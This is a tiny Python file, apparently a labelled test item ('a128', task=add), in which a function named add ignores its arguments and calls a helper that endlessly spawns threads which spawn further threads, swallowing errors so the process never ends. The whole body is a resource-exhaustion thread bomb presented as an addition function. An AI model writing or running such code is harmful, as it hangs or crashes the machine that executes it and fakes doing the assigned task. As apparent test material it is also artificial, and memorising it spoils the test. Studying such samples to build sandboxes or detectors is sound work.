# a128 | task=add | required=any | threads that start threads, none of which ends
import threading
def more():
    while True:
        try:
            threading.Thread(target=more, daemon=True).start()
        except RuntimeError:
            pass
def add(a, b):
    more()
